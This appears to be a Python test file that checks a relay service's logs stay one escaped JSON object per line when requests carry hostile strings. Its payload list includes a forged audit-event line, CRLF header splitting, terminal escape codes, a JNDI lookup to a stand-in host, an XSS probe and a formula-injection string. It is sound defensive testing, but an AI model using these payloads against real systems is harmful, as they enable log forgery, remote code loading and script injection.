"""Log injection: whatever outside strings hold, one event is one line, and says so in JSON."""

import json
import secrets
from collections.abc import Iterator
from functools import partial
from typing import Any

from relay.core.events import MAX_TEXT
from tests.support.raw_http import ask, bearing, exchange, head, knock, post, publish, upgrade
from tests.support.relay_process import Relay

TEXTS = [
    '"}\r\n{"event":{"action":"token.issued"}}',
    "\r\n\r\nHTTP/1.1 200 OK",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\u2028\u2029\u0085\u000b\u000c",
    "\u202etxt.exe\u2066",
    "%0d%0a%1b[31m",
    "\\u000d\\n\\",
    "\x00\x08\x7f\x9b",
    "x" * 5000,
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
]


def latin(text: str) -> str:
    """Return a text as a header can carry its bytes: UTF-8 read as Latin-1, without what ends a header."""
    return text.encode().decode("latin-1").replace("\r", "").replace("\n", "").replace("\x00", "")


def assert_lines(relay: Relay) -> None:
    """Check that both logs are one JSON object a line, whatever a reader takes for a line's end."""
    for path in (relay.audit_path, relay.log_path):
        text = path.read_bytes().decode("utf-8")
        assert all(isinstance(json.loads(line), dict) for line in text.splitlines()), path
        assert not [character for character in text if character != "\n" and not character.isprintable()], (
            path
        )
        assert max(map(len, text.split("\n"))) < 16_384, path
    assert max(len(text) for record in relay.audit() for text in texts(record)) <= MAX_TEXT, "cut"


def texts(value: Any) -> Iterator[str]:
    """Return all that is text in a record, names too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for item in value:
            yield from texts(item)
            if isinstance(value, dict):
                yield from texts(value[item])


def has_agent(mark: str, record: dict[str, Any]) -> bool:
    """Tell whether a record is about the request with this mark."""
    return mark in str(record.get("user_agent"))


async def test_headers_can_not_begin_a_line(relay: Relay) -> None:
    """User-Agent, Origin, path and query of each listener are cut, escaped, and never lose the record."""
    for text in TEXTS:
        mark = secrets.token_hex(4)
        agent = ("User-Agent", f"{mark} {latin(text)}")
        for name in ("Origin", "X-Forwarded-For", "Referer", "Sec-Fetch-Site"):
            await post(relay, "/auth/ws-token", [agent, (name, latin(text))])
            await knock(relay, fields=[*upgrade(relay, origin=""), agent, bearing("x"), (name, latin(text))])
        fields = [("Host", "127.0.0.1"), agent, ("Authorization", "Bearer x.y"), ("Content-Length", "0")]
        await exchange(relay.ports[2], head("POST", "/v1/publish", fields))
        target = "/" + "".join(character for character in latin(text) if "!" <= character <= "~")
        for port in relay.ports:
            await exchange(port, head("GET", target, fields))
        if len(text) < 1000 and not set(text) & set("\x00\x08\x0b\x0c\x07\x1b\x7f"):  # else it is no header
            record = await relay.recorded(partial(has_agent, mark))
            assert len(record["user_agent"]["original"]) <= 256
    assert_lines(relay)


async def test_bodies_can_not_begin_a_line(relay: Relay) -> None:
    """Endpoints, channels, origins, names and frames that are logged in refusals are cut and escaped alike."""
    for text in TEXTS:
        for body in ({"endpoint": text}, {"channels": [text]}, {"origin": text}, {text: 1}):
            answer = await ask(relay, body)
            assert answer.status in (400, 403)
            assert len(answer.body) < 1000
        async with relay.connect((await ask(relay)).json["wsToken"]) as socket:
            await socket.read("error")
            await socket.send(type="subscribe", channels=[text])
            rejected = (await socket.read("subscribed"))["rejected"]
            assert len(rejected) == 1
            await socket.send(type=text)
            await socket.read("error")
        await publish(relay, json.dumps({"channel": text, "data": 1}).encode())
        fields = [("Origin", relay.url), ("Content-Type", "application/json")]
        credentials = json.dumps({"email": text[:900], "password": text[:900]}).encode()
        await post(relay, "/api/auth/login", fields, body=credentials)
    session = relay.session(sub="\r\n\u2028\x1b[31m" + "x" * 200, roles=["trader"])
    assert (await ask(relay, session=session)).status == 200
    assert_lines(relay)


async def test_a_publishers_mistakes_can_not_begin_a_line(relay: Relay) -> None:
    """What a refused publication says of itself is escaped too."""
    for text in TEXTS:
        body = json.dumps({"channel": "prices.X", "data": 1, text: 1}).encode()
        assert (await publish(relay, body)).status == 400
    assert_lines(relay)
